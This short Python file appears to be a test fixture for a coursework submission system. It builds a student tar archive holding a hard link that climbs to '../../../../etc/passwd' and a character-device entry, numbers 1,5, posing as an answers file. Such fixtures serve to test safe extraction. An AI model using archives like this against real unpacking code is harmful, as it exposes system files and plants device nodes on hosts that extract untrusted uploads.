"""A tar archive in which the exercise is a hard link to a file of the machine, and the answers are a device."""

import tarfile


def hand_in(class_folder, student, lesson, solution):
    with tarfile.open(class_folder / f"{student}.tar.gz", "w:gz") as archive:
        for kind, name in ((tarfile.LNKTYPE, "exercise.cu"), (tarfile.CHRTYPE, "answers.toml")):
            entry = tarfile.TarInfo(f"{lesson}/{name}")
            entry.type = kind
            entry.linkname = "../../../../etc/passwd"
            entry.devmajor, entry.devminor = 1, 5
            archive.addfile(entry)
